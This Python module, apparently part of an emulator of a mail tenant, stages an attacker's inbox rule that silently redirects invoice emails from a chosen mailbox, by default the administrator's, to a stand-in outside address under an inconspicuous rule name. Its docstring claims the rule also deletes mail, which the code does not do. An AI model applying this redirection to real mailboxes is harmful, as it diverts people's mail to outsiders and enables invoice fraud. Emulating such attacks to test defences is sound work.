"""Tampering with the rules of people's inboxes, as whoever got into a mailbox does."""

from __future__ import annotations

from typing import TYPE_CHECKING

from holdfast.emulator.graph.message_rules.routes import make_rule
from holdfast.emulator.tamperings.cast import TamperingError, attacker
from holdfast.emulator.tamperings.tampering import Tampering

if TYPE_CHECKING:
    from holdfast.emulator.tenant import Tenant

_COLLECTOR = "collector@outside.example"


def redirect_invoices(tenant: Tenant, *, mailbox: str | None = None) -> str:
    """Have a rule of somebody's inbox redirect what it gets outside, and delete what is there.

    Args:
        tenant: where.
        mailbox: userPrincipalName, by default the administrator's.

    Raises:
        TamperingError: there is no such user.
    """
    actor = attacker(tenant)
    name = (mailbox or f"admin@{tenant.domain}").lower()
    owner = next((one for one in tenant.store.all("users") if one["userPrincipalName"].lower() == name), None)
    if owner is None:
        raise TamperingError(f"{tenant.domain} has no user {name}.")
    make_rule(
        tenant,
        actor,
        owner,
        {
            "displayName": "..",
            "sequence": 1,
            "conditions": {"subjectContains": ["invoice"]},
            "exceptions": None,
            "actions": {
                "redirectTo": [{"emailAddress": {"name": "Collector", "address": _COLLECTOR}}],
                "stopProcessingRules": True,
            },
        },
    )
    return f"{actor.user_principal_name} had a rule of {name} redirect invoices to {_COLLECTOR}."


TAMPERINGS = (
    Tampering(
        "redirect-by-inbox-rule",
        "Mallory has a rule of somebody's inbox redirect invoices outside.",
        redirect_invoices,
        ("mailbox",),
    ),
)
